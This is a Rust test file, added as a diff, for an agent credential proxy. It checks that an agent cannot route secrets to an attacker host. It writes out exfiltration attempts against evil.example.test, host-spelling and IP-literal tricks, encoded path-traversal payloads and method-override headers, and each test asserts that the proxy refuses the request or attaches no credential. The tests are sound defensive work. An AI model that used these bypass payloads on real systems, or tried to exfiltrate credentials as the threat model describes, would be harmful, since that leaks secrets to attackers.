@@ -1,0 +1,453 @@
+//! Exfiltration: an agent tries to make the proxy attach a credential to a request that reaches
+//! a host it controls, or a path or method the service does not allow (issue 6 §2).
+
+use bytes::Bytes;
+use http::Request;
+use http_body_util::Full;
+use serde_json::json;
+
+use crate::support::agent::{self, basic};
+use crate::support::{TestApp, spawn_app};
+
+const SECRET: &str = "sk_exfil_0123456789abcdef";
+
+const SERVICES: &str = r#"
+- name: api
+  host: api.example.test
+  auth: {type: bearer, token: KEY}
+- name: books
+  host: bücher.example.test
+  auth: {type: bearer, token: KEY}
+- name: scoped
+  host: scoped.example.test/v1/*
+  methods: [GET]
+  auth: {type: bearer, token: KEY}
+- name: tg
+  host: tg.example.test
+  auth: {type: passthrough}
+  substitutions:
+    - {placeholder: __TG_TOKEN__, key: KEY, in: [path]}
+"#;
+
+async fn setup(app: &TestApp, vault: &str) -> String {
+    app.create_vault(vault).await;
+    app.set_credentials(vault, &[("KEY", SECRET)]).await;
+    app.set_services_yaml(vault, SERVICES).await;
+    app.proxy_token(vault).await.0
+}
+
+fn status(raw: &str) -> u16 {
+    raw.split_whitespace()
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0)
+}
+
+fn no_credential_reached_the_upstream(app: &TestApp, since: usize) {
+    for r in &app.upstream.requests()[since..] {
+        let dump = format!("{r:?}");
+        assert!(
+            !dump.contains(SECRET),
+            "the credential left the proxy: {dump}"
+        );
+    }
+}
+
+/// CONNECT to a host no service binds, carrying a service's name in the inner Host and the TLS
+/// SNI: the tunnel is spliced (or refused under `deny`), nothing is attached.
+#[tokio::test]
+async fn exfil_connect_to_attacker_host_with_service_host_and_sni() {
+    let app = spawn_app().await;
+    let token = setup(&app, "exfil-connect").await;
+    let auth = basic(&token, "exfil-connect");
+    let tcp = agent::connect(app.proxy, "evil.example.test:443", Some(&auth))
+        .await
+        .unwrap();
+    // The splice reaches the upstream as is: its own certificate, no interception.
+    let tls = agent::tls(tcp, Some("api.example.test"), None, &[b"http/1.1"])
+        .await
+        .unwrap();
+    let req = Request::get("/steal")
+        .header("host", "api.example.test")
+        .body(Full::new(Bytes::new()))
+        .unwrap();
+    assert_eq!(agent::send(tls, req).await.unwrap().status(), 200);
+    let seen = app.upstream.last();
+    assert_eq!(seen.path_and_query, "/steal");
+    assert_eq!(seen.header("authorization"), None, "nothing attached");
+    app.set_policy("exfil-connect", "deny").await;
+    let (code, head) = agent::connect(app.proxy, "evil.example.test:443", Some(&auth))
+        .await
+        .unwrap_err();
+    assert_eq!(code, 403, "{head}");
+    assert!(
+        head.contains("x-agent-vault-proxy-error: forbidden_host"),
+        "{head}"
+    );
+    no_credential_reached_the_upstream(&app, 0);
+}
+
+/// The route is the CONNECT authority (or the absolute-form URI); any other name in the request
+/// line, Host or `:authority` is a 421 and nothing is sent.
+#[tokio::test]
+async fn exfil_absolute_form_and_host_disagreeing_are_misdirected() {
+    let app = spawn_app().await;
+    let token = setup(&app, "exfil-host").await;
+    let auth = basic(&token, "exfil-host");
+    let before = app.upstream.count();
+    // Absolute form on the proxy's own connection, Host names the attacker (and the reverse).
+    for (uri, host) in [
+        ("https://api.example.test/x", "evil.example.test"),
+        ("https://evil.example.test/x", "api.example.test"),
+        ("https://api.example.test/x", "api.example.test:8443"),
+    ] {
+        let stream = tokio::net::TcpStream::connect(app.proxy).await.unwrap();
+        let raw = format!(
+            "GET {uri} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {auth}\r\nConnection: close\r\n\r\n"
+        );
+        let out = agent::raw_exchange(stream, raw.as_bytes()).await;
+        assert_eq!(status(&out), 421, "{uri} / {host}: {out}");
+        assert!(
+            out.contains("x-agent-vault-proxy-error: host_mismatch"),
+            "{out}"
+        );
+    }
+    // Inside an intercepted connection: an absolute-form request line naming the attacker.
+    let out = app
+        .raw_request(
+            &token,
+            "exfil-host",
+            "api.example.test",
+            "GET https://evil.example.test/x HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n",
+        )
+        .await;
+    assert_eq!(status(&out), 421, "{out}");
+    // Two Host headers.
+    let out = app
+        .raw_request(
+            &token,
+            "exfil-host",
+            "api.example.test",
+            "GET /x HTTP/1.1\r\nHost: api.example.test\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n",
+        )
+        .await;
+    assert_eq!(status(&out), 400, "{out}");
+    // HTTP/2 with an `:authority` naming the attacker.
+    let tls = app
+        .tunnel(&token, "exfil-host", "api.example.test", &[b"h2"])
+        .await;
+    let (mut sender, conn) = hyper::client::conn::http2::handshake(
+        hyper_util::rt::TokioExecutor::new(),
+        hyper_util::rt::TokioIo::new(tls),
+    )
+    .await
+    .unwrap();
+    tokio::spawn(conn);
+    let req = Request::get("https://evil.example.test/x")
+        .body(Full::new(Bytes::new()))
+        .unwrap();
+    let resp = sender.send_request(req).await.unwrap();
+    assert_eq!(resp.status(), 421);
+    assert_eq!(resp.headers()["x-agent-vault-proxy-error"], "host_mismatch");
+    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
+}
+
+/// Every spelling of a service host lands on the one canonical name (and its verified TLS); look
+/// alikes and numeric spellings never do.
+#[tokio::test]
+async fn exfil_host_spellings_route_canonically() {
+    let app = spawn_app().await;
+    let token = setup(&app, "exfil-spell").await;
+    app.set_policy("exfil-spell", "deny").await;
+    let auth = basic(&token, "exfil-spell");
+    let ca = app.ca_pem().await;
+    for (connect, host, canonical) in [
+        (
+            "API.EXAMPLE.TEST:443",
+            "api.example.test",
+            "api.example.test",
+        ),
+        (
+            "api.example.test.:443",
+            "API.Example.Test.",
+            "api.example.test",
+        ),
+        (
+            "api.example.test:443",
+            "ａｐｉ.example.test",
+            "api.example.test",
+        ),
+        (
+            "xn--bcher-kva.example.test:443",
+            "BÜCHER.example.test",
+            "xn--bcher-kva.example.test",
+        ),
+        (
+            "XN--BCHER-KVA.example.test:443",
+            "xn--bcher-kva.example.test:443",
+            "xn--bcher-kva.example.test",
+        ),
+    ] {
+        let tcp = agent::connect(app.proxy, connect, Some(&auth))
+            .await
+            .unwrap_or_else(|e| panic!("{connect}: {e:?}"));
+        let tls = agent::tls(tcp, Some(canonical), Some(&ca), &[b"http/1.1"])
+            .await
+            .unwrap();
+        let req = Request::get("/spelled")
+            .header(
+                "host",
+                http::HeaderValue::from_bytes(host.as_bytes()).unwrap(),
+            )
+            .body(Full::new(Bytes::new()))
+            .unwrap();
+        assert_eq!(
+            agent::send(tls, req).await.unwrap().status(),
+            200,
+            "{connect} {host}"
+        );
+        let seen = app.upstream.last();
+        assert_eq!(seen.sni.as_deref(), Some(canonical), "{connect}");
+        assert_eq!(
+            seen.header("authorization"),
+            Some(format!("Bearer {SECRET}")),
+            "{connect}"
+        );
+    }
+    let before = app.upstream.count();
+    // Look-alikes are other hosts: under `deny` they are refused.
+    for connect in [
+        "api.example.test.evil:443",   // suffix
+        "xn--pi-7kc.example.test:443", // a look-alike's A-label
+        "[::ffff:127.0.0.1]:443",      // IP literals are never bound
+        "127.0.0.1:443",
+    ] {
+        let (code, head) = agent::connect(app.proxy, connect, Some(&auth))
+            .await
+            .unwrap_err();
+        assert_eq!(code, 403, "{connect}: {head}");
+    }
+    // Raw Unicode in a request target is not valid HTTP; Cyrillic а is not a.
+    let (code, head) = agent::connect(app.proxy, "аpi.example.test:443", Some(&auth))
+        .await
+        .unwrap_err();
+    assert!(code == 400 || code == 403, "{head}");
+    // Spellings that different parsers read differently are refused outright.
+    for connect in [
+        "api.example.test..:443",
+        "api%2eexample.test:443",
+        "evil.test\\@api.example.test:443",
+        "2130706433:443",
+        "0x7f000001:443",
+        "0177.0.0.1:443",
+        "127.1:443",
+        "0x7f.0.0.1:443",
+        "api.example.test:0443x",
+    ] {
+        let (code, head) = agent::connect(app.proxy, connect, Some(&auth))
+            .await
+            .unwrap_err();
+        assert_eq!(code, 400, "{connect}: {head}");
+    }
+    // Inside the intercepted connection the Host must be the same canonical name.
+    for host in [
+        "127.0.0.1",
+        "2130706433",
+        "[::ffff:7f00:1]",
+        "api.example.test.evil",
+        "xn--pi-7kc.example.test",
+        "аpi.example.test",
+    ] {
+        let out = app
+            .raw_request(
+                &token,
+                "exfil-spell",
+                "api.example.test",
+                &format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
+            )
+            .await;
+        assert_eq!(status(&out), 421, "Host {host}: {out}");
+    }
+    assert_eq!(app.upstream.count(), before);
+    no_credential_reached_the_upstream(&app, before);
+}
+
+/// The proxy returns a redirect to the attacker instead of following it; an agent that follows
+/// it on its own reaches a host no service binds and gets nothing attached.
+#[tokio::test]
+async fn exfil_redirect_to_attacker_carries_nothing() {
+    let app = spawn_app().await;
+    let token = setup(&app, "exfil-redir").await;
+    app.set_policy("exfil-redir", "deny").await;
+    let follows = app.agent(&token, "exfil-redir").await; // reqwest follows redirects
+    let result = follows
+        .get("https://api.example.test/redirect")
+        .send()
+        .await;
+    assert!(
+        result.is_err() || result.as_ref().unwrap().status() == 403,
+        "following to the attacker is refused: {result:?}"
+    );
+    let paths: Vec<String> = app
+        .upstream
+        .requests()
+        .iter()
+        .map(|r| r.path_and_query.clone())
+        .collect();
+    assert_eq!(paths, ["/redirect"], "the proxy followed nothing");
+}
+
+/// Placeholders are replaced only where the service declares them; anywhere else, or in a request
+/// to another host, the request is refused before anything is sent.
+#[tokio::test]
+async fn exfil_placeholders_outside_declared_locations_are_refused() {
+    let app = spawn_app().await;
+    let token = setup(&app, "exfil-ph").await;
+    let agent = app.agent(&token, "exfil-ph").await;
+    let resp = agent
+        .get("https://tg.example.test/bot__TG_TOKEN__/getMe")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    assert_eq!(
+        app.upstream.last().path_and_query,
+        format!("/bot{SECRET}/getMe"),
+        "declared location: substituted"
+    );
+    let before = app.upstream.count();
+    let refused = [
+        agent.get("https://tg.example.test/send?text=__TG_TOKEN__"),
+        agent
+            .get("https://tg.example.test/x")
+            .header("x-note", "__TG_TOKEN__"),
+        agent
+            .get("https://tg.example.test/x")
+            .header("cookie", "a=__TG_TOKEN__"),
+        agent.get("https://api.example.test/bot__TG_TOKEN__/x"),
+        agent.get("https://api.example.test/x?k=__TG_TOKEN__"),
+        agent
+            .get("https://api.example.test/x")
+            .header("x-forward", "__TG_TOKEN__"),
+    ];
+    for req in refused {
+        let resp = req.send().await.unwrap();
+        assert_eq!(resp.status(), 403);
+        assert_eq!(
+            resp.headers()["x-agent-vault-proxy-error"],
+            "placeholder_refused"
+        );
+    }
+    assert_eq!(app.upstream.count(), before, "nothing was sent");
+    // A body is not a declared location: the placeholder travels as the literal text it is.
+    agent
+        .post("https://tg.example.test/x")
+        .json(&json!({ "text": "__TG_TOKEN__" }))
+        .send()
+        .await
+        .unwrap();
+    let seen = app.upstream.last();
+    assert!(String::from_utf8_lossy(&seen.body).contains("__TG_TOKEN__"));
+    let log = format!("{:?}", app.upstream.requests()[1..].to_vec());
+    assert!(!log.contains(SECRET), "only the declared path carried it");
+}
+
+/// Path tricks against a path-scoped service: anything the upstream could normalize differently
+/// from what was matched is refused, and what is forwarded is byte for byte what was matched.
+#[tokio::test]
+async fn exfil_path_tricks_against_scoped_services() {
+    let app = spawn_app().await;
+    let token = setup(&app, "exfil-path").await;
+    let before = app.upstream.count();
+    for path in [
+        "/v1/../admin",
+        "/v1/./../admin",
+        "/v1/%2e%2e/admin",
+        "/v1/%2E%2E/admin",
+        "/v1/.%2e/admin",
+        "/v1%2fadmin",
+        "/v1/x%2F..%2F..%2Fadmin",
+        "/v1/%252e%252e/admin",
+        "/v1/..;/admin",
+        "/v1/%c0%ae%c0%ae/admin",
+        "/v1/%5c..%5cadmin",
+        "/v1/x%00/admin",
+    ] {
+        let out = app
+            .raw_request(
+                &token,
+                "exfil-path",
+                "scoped.example.test",
+                &format!(
+                    "GET {path} HTTP/1.1\r\nHost: scoped.example.test\r\nConnection: close\r\n\r\n"
+                ),
+            )
+            .await;
+        assert_eq!(status(&out), 400, "{path}: {out}");
+        assert!(out.contains("ambiguous_path"), "{path}: {out}");
+    }
+    // A raw backslash does not even parse as a request target.
+    let out = app
+        .raw_request(
+            &token,
+            "exfil-path",
+            "scoped.example.test",
+            "GET /v1\\..\\admin HTTP/1.1\r\nHost: scoped.example.test\r\nConnection: close\r\n\r\n",
+        )
+        .await;
+    assert_eq!(status(&out), 400, "{out}");
+    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
+    // What is matched is what is forwarded.
+    for path in ["/v1/charges?x=%2e%2e&y=/..", "/v1/a%20b/c", "/v1//double"] {
+        let out = app
+            .raw_request(
+                &token,
+                "exfil-path",
+                "scoped.example.test",
+                &format!(
+                    "GET {path} HTTP/1.1\r\nHost: scoped.example.test\r\nConnection: close\r\n\r\n"
+                ),
+            )
+            .await;
+        assert_eq!(status(&out), 200, "{path}: {out}");
+        let seen = app.upstream.last();
+        assert_eq!(seen.path_and_query, path, "forwarded bytes differ");
+        assert_eq!(
+            seen.header("authorization"),
+            Some(format!("Bearer {SECRET}"))
+        );
+    }
+}
+
+/// A service limited to GET cannot be driven as DELETE through method-override headers or the
+/// `_method` parameter frameworks honour.
+#[tokio::test]
+async fn exfil_method_override_is_refused_for_method_scoped_services() {
+    let app = spawn_app().await;
+    let token = setup(&app, "exfil-method").await;
+    let agent = app.agent(&token, "exfil-method").await;
+    let before = app.upstream.count();
+    for (header, query) in [
+        (Some("x-http-method-override"), ""),
+        (Some("x-http-method"), ""),
+        (Some("x-method-override"), ""),
+        (None, "?_method=DELETE"),
+        (None, "?a=1&_METHOD=DELETE"),
+    ] {
+        let mut req = agent.get(format!("https://scoped.example.test/v1/repo{query}"));
+        if let Some(h) = header {
+            req = req.header(h, "DELETE");
+        }
+        let resp = req.send().await.unwrap();
+        assert_eq!(resp.status(), 400, "{header:?} {query}");
+        assert_eq!(resp.headers()["x-agent-vault-proxy-error"], "bad_request");
+    }
+    let resp = agent
+        .delete("https://scoped.example.test/v1/repo")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200, "DELETE itself just gets no credential");
+    assert_eq!(app.upstream.last().header("authorization"), None);
+    assert_eq!(app.upstream.count(), before + 1);
+}
